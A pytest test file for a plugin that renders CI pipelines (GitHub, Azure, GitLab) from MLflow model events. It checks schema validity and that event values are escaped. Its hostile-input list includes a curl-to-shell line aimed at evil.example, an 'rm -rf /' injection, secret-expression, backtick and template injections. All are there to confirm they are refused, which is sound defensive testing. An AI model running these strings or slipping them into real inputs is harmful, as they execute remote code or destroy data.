"""Rendered pipelines: valid for their CI system (check-jsonschema's vendored schemas), carrying
event values only as escaped data, refusing hostile names with a message that names the field."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from pipeline_plugin.errors import ConfigError, PayloadError
from pipeline_plugin.events import ModelVersionEvent
from pipeline_plugin.render import render_pipeline

CHECK = Path(sys.executable).with_name("check-jsonschema")
SCHEMA_ARGS = {
    "github": ["--builtin-schema", "vendor.github-workflows"],
    "azure-pipelines": [
        "--builtin-schema", "vendor.azure-pipelines", "--data-transform", "azure-pipelines",
        "--regex-variant", "nonunicode",
    ],
    "gitlab": ["--builtin-schema", "vendor.gitlab-ci"],
}
PROVIDERS = list(SCHEMA_ARGS)


def event(**overrides) -> ModelVersionEvent:
    data = {
        "source": "mlflow",
        "kind": "model_version.created",
        "model": "Iris-Classifier_v2.1",
        "version": "17",
        "tags": {"team": "équipe data", "stage": "candidate"},
        "artifact_uri": "s3://models/iris/17",
    }
    data.update(overrides)
    return ModelVersionEvent.from_dict(data)


def validate(provider: str, path: Path) -> None:
    proc = subprocess.run([str(CHECK), *SCHEMA_ARGS[provider], str(path)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize("approval", [True, False])
def test_rendered_pipeline_is_valid_for_its_ci_system(tmp_path, provider, approval):
    rendered = render_pipeline(provider, event(), "deploy-iris", {"provider": provider, "approval": approval})
    out = tmp_path / "pipeline.yml"
    out.write_text(rendered.text)
    validate(provider, out)


def _defaults(provider: str, doc: dict) -> dict:
    if provider == "github":
        return {k: v["default"] for k, v in doc[True]["workflow_dispatch"]["inputs"].items()}  # `on` -> True
    if provider == "azure-pipelines":
        return {p["name"]: p["default"] for p in doc["parameters"]}
    return {k: v["value"] for k, v in doc["variables"].items() if isinstance(v, dict)}


@pytest.mark.parametrize("provider", PROVIDERS)
def test_event_values_arrive_as_data_unchanged(provider):
    ev = event()
    doc = yaml.safe_load(render_pipeline(provider, ev, "deploy-iris", {}).text)
    values = set(_defaults(provider, doc).values())
    assert {"Iris-Classifier_v2.1", "17", "mlflow", "s3://models/iris/17"} <= values
    tags = [json.loads(v) for v in values if isinstance(v, str) and v.startswith("{")]
    assert tags == [{"stage": "candidate", "team": "équipe data"}]


EXPRESSION = re.compile(r"\$\{\{.*?\}\}|\$\[.*?\]|\$\(.*?\)|\{\{.*?\}\}", re.S)


@pytest.mark.parametrize("provider", PROVIDERS)
def test_event_values_never_inside_expressions_or_scripts(provider):
    ev = event(model="zqxmodel", version="9931", tags={"zqxtag": "zqxvalue"})
    doc = yaml.safe_load(render_pipeline(provider, ev, "r", {}).text)
    text = render_pipeline(provider, ev, "r", {}).text
    for span in EXPRESSION.findall(text):
        assert "zqx" not in span and "9931" not in span, span

    def scripts(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("run", "bash", "script", "before_script") :
                    yield json.dumps(value)
                yield from scripts(value)
        elif isinstance(node, list):
            for item in node:
                yield from scripts(item)

    for script in scripts(doc):
        assert "zqx" not in script and "9931" not in script, script


HOSTILE = [
    ("model", "x${{ secrets.T }}"),
    ("model", "$(curl evil.example | sh)"),
    ("model", "iris'; rm -rf /; echo '"),
    ("model", 'iris" && true'),
    ("model", "iris\nrun: evil"),
    ("model", "modèle"),
    ("model", "-flag"),
    ("version", "1 $[ variables.x ]"),
    ("version", "{{ 7*7 }}"),
    ("artifact_uri", "s3://b/`id`"),
]


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize("field,value", HOSTILE)
def test_hostile_event_values_are_refused_naming_field_value_and_pattern(provider, field, value):
    with pytest.raises(PayloadError) as info:
        render_pipeline(provider, event(**{field: value}), "r", {})
    err = info.value
    assert err.field == field
    assert repr(value) in err.message and "must match" in err.message
    assert err.details["pattern"] in err.message


@pytest.mark.parametrize(
    "tags",
    [{"t": "x${{ secrets.T }}"}, {"t": "$(curl x)"}, {"t": "a\nb"}, {"t": 'say "hi"'}, {"bad key!": "v"}],
)
def test_hostile_tags_are_refused(tags):
    with pytest.raises(PayloadError) as info:
        render_pipeline("github", event(tags=tags), "r", {})
    assert info.value.field.startswith("tags.")


def test_forward_tags_drops_tags_the_pipeline_does_not_need():
    ev = event(tags={"stage": "candidate", "note": "$(curl x)"})
    text = render_pipeline("gitlab", ev, "r", {"forward_tags": ["stage"]}).text
    doc = yaml.safe_load(text)
    assert json.loads(doc["variables"]["MODEL_TAGS"]["value"]) == {"stage": "candidate"}


def test_github_workflow_shape():
    doc = yaml.safe_load(render_pipeline("github", event(), "r", {"action": "acme/pipeline-plugin@v1"}).text)
    jobs = doc["jobs"]
    assert list(jobs)[:4] == ["package", "deploy-staging", "smoke-test", "promote"]
    assert jobs["promote"]["environment"]["name"] == "production"
    assert jobs["deploy-staging"]["environment"]["name"] == "staging"
    assert "inputs.model" in doc["concurrency"]["group"] and doc["concurrency"]["cancel-in-progress"] is False
    assert jobs["package"]["outputs"]["image"] == "${{ steps.package.outputs.image }}"
    assert jobs["smoke-test"]["needs"] == ["package", "deploy-staging"]
    steps = [s for job in jobs.values() for s in job["steps"] if "uses" in s and "checkout" not in s["uses"]]
    assert steps and all(s["uses"] == "acme/pipeline-plugin@v1" for s in steps)
    assert "GITHUB_STEP_SUMMARY" in jobs["summary"]["steps"][0]["run"]


def test_azure_pipeline_uses_deployment_jobs_with_environments():
    doc = yaml.safe_load(render_pipeline("azure-pipelines", event(), "r", {}).text)
    envs = {job.get("environment") for stage in doc["stages"] for job in stage["jobs"] if "deployment" in job}
    assert envs == {"staging", "production"}
    assert [p["name"] for p in doc["parameters"]][:2] == ["model", "version"]


def test_gitlab_manual_gate_follows_rule_approval():
    gated = yaml.safe_load(render_pipeline("gitlab", event(), "r", {"approval": True}).text)
    open_ = yaml.safe_load(render_pipeline("gitlab", event(), "r", {"approval": False}).text)
    assert gated["promote-production"]["when"] == "manual"
    assert "when" not in open_["promote-production"]
    assert gated["package"]["artifacts"]["reports"]["dotenv"] == "pipeline-plugin.env"
    assert gated["variables"]["MODEL_NAME"]["expand"] is False


def test_gitlab_jobs_run_on_the_tagged_runner_and_install_into_a_venv(tmp_path):
    rendered = render_pipeline("gitlab", event(), "r", {"runner_tags": "docker, ml-host"})
    doc = yaml.safe_load(rendered.text)
    assert doc["default"]["tags"] == ["docker", "ml-host"]
    assert any("venv" in line for line in doc["default"]["before_script"])
    (tmp_path / "p.yml").write_text(rendered.text)
    validate("gitlab", tmp_path / "p.yml")
    assert "tags" not in yaml.safe_load(render_pipeline("gitlab", event(), "r", {}).text)["default"]
    with pytest.raises(ConfigError, match="pipeline.runner_tags"):
        render_pipeline("gitlab", event(), "r", {"runner_tags": "docker; id"})


@pytest.mark.parametrize(
    "pipeline,field",
    [({"target": "ssh"}, "pipeline.target"), ({"staging_port": "80; id"}, "pipeline.staging_port"),
     ({"action": "evil ${{ x }}"}, "pipeline.action"), ({"approval": "yes"}, "pipeline.approval")],
)
def test_bad_rule_settings_fail_with_the_key(pipeline, field):
    with pytest.raises(ConfigError, match=re.escape(field)):
        render_pipeline("github", event(), "r", pipeline)


def test_unknown_provider_suggests():
    with pytest.raises(ConfigError, match="Did you mean 'gitlab'"):
        render_pipeline("gitlb", event(), "r", {})
